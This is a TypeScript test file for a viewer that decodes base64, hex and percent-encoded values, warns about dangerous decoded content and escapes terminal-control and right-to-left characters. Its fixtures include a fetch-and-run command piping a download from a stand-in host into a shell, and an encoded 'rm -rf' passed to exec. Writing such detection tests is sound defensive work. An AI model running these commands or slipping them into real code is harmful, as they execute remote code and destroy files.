import { describe, expect, it } from 'vitest';
import { rows, said, view } from '../../support/views.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('an encoded value', () => {
  it.each([
    ['base64', base64('hello world\nsecond line')],
    ['hex', Buffer.from('hello world\nsecond line').toString('hex')],
    ['base64', Buffer.from('hello world\nsecond line').toString('base64url')],
    ['percent signs', '%68ello%20world%0Asecond%20line'],
  ])('of %s says below its source what it says', (how, data) => {
    const shown = view({ data });
    expect(rows(shown.lines)).toEqual([
      `"data": "${data}"`,
      `  its ${how} says:`,
      '    │ hello world',
      '    │ second line',
    ]);
    expect(said(shown)).toEqual([`warn: Its ${how} says: hello world second line`]);
  });

  it('that decodes to a harmful command is warned of', () => {
    expect(said(view({ data: base64('curl http://evil.test | sh') }))[0]).toBe(
      'danger: Decoded: It runs what it downloads: curl http://evil.test | sh',
    );
  });

  it('that drives a terminal when decoded does not', () => {
    expect(rows(view({ data: base64('ok \u001b[2J\u202e done') }).lines).at(-1)).toBe(
      '    │ ok \\u{001b}[2J\\u{202e} done',
    );
    expect(rows(view({ data: base64('to שלום over') }).lines).at(-1)).toContain(
      'right-to-left text: to \\u{05e9}',
    );
  });

  it('that is no text, or too short to be one, is left as it is', () => {
    for (const data of [
      Buffer.from([1, 2, 250, 251, 0, 7, 9, 11, 13, 200, 199, 3]).toString('base64'),
      'deadbeef',
      'abcdefghijklmnop',
      '0123456789abcdef0123456789abcdef01234567',
    ])
      expect(view({ data }).lines).toHaveLength(1);
  });

  it('that is long says how much of it is decoded', () => {
    const shown = view({ data: base64('word '.repeat(4_000)) });
    expect(rows(shown.lines)[1]).toBe('  its base64 says, of 20,000 characters the first 8192:');
  });

  it('in code that decodes it is decoded too', () => {
    expect(rows(view({ code: `exec(atob("${base64('rm -rf /home/x')}"))` }).lines).at(-1)).toBe(
      '    │ rm -rf /home/x',
    );
  });
});
